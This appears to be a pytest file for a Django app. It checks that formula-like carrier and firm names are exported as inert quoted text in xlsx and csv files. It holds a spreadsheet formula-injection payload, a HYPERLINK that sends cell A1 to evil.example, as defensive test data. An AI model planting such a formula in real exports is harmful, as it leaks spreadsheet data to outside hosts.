"""F7: a carrier named like a formula is written as inert text in every export (xlsx and csv)."""

import datetime
import io
import zipfile

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from fuhua.accounts.models import ApiToken
from fuhua.core.exports import csv_bytes
from fuhua.statistics.exchange.firms import import_firms, write_firm_template
from fuhua.statistics.exchange.reports import write_workbook

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def no_formulas(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if "worksheets" in n)


def cells(data: bytes, sheet: str | None = None) -> list[list]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return (book.get_sheet_by_name(sheet) if sheet else book.get_sheet_by_index(0)).to_python()


@pytest.fixture
def hostile(world):
    world.carrier_a.name = HOSTILE
    world.carrier_a.save()
    return world.carrier_a


def test_evaluation_export_writes_the_name_as_text(world, hostile):
    from fuhua.evaluation.testing import accepted_reports

    accepted_reports(world)
    api = Client(headers={"Authorization": f"Bearer {ApiToken.issue(world.users.bureau_sz, 't')[1]}"})
    run = api.post("/api/v1/evaluation-runs", {"scheme": "js-incubator-2024", "period": 2024, "region": "320500"},
                   content_type="application/json").json()
    api.post(f"/api/v1/evaluation-runs/{run['id']}/transitions/compute", {"reason": ""},
             content_type="application/json")
    data = api.get(f"/api/v1/evaluation-runs/{run['id']}/export").content
    assert no_formulas(data)
    names = [row[1] for row in cells(data)[1:]]
    assert "'" + HOSTILE in names


def test_ledger_export_writes_the_name_as_text(world, hostile):
    from fuhua.policies.models import Payout, Policy
    from fuhua.policies.services.ledger import export_xlsx

    policy = Policy.objects.create(code="test-policy", title="t", region=world.carrier_a.region,
                                   effective_from=datetime.date(2024, 1, 1))
    Payout.objects.create(policy=policy, carrier=hostile, key="k1", group="g", period=2024, budget_year=2024,
                          region_code=hostile.region_id, amount_fen=100, paid_on=datetime.date(2024, 5, 1),
                          reference="+86 512 0000", reason="-")
    data = export_xlsx(Payout.objects.all())
    assert no_formulas(data)
    row = cells(data, "ledger")[1]
    assert row[4] == "'" + HOSTILE and row[12] == "'+86 512 0000" and row[13] == "'-" and row[11] == 1.0


def test_statistics_export_and_templates_write_names_as_text(world, hostile, tmp_path):
    out = tmp_path / "export.xlsx"
    write_workbook(str(out), 2024, [hostile])
    data = out.read_bytes()
    assert no_formulas(data) and cells(data)[1][2] == "'" + HOSTILE


def test_firm_template_round_trip_keeps_a_formula_like_name(world, tmp_path):
    from fuhua.core.system import SYSTEM

    world.firm_a.name = "=1+1 科技有限公司"
    world.firm_a.save()
    out = tmp_path / "firms.xlsx"
    write_firm_template(str(out), [world.firm_a])
    assert no_formulas(out.read_bytes()) and cells(out.read_bytes())[1][1] == "'=1+1 科技有限公司"
    result = import_firms(str(out), "firms.xlsx", SYSTEM, dry_run=True)
    assert result.ok and result.unchanged == 1, result.errors


def test_csv_export_of_the_name_is_inert():
    text = csv_bytes(["载体"], [[HOSTILE]]).decode("utf-8-sig")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
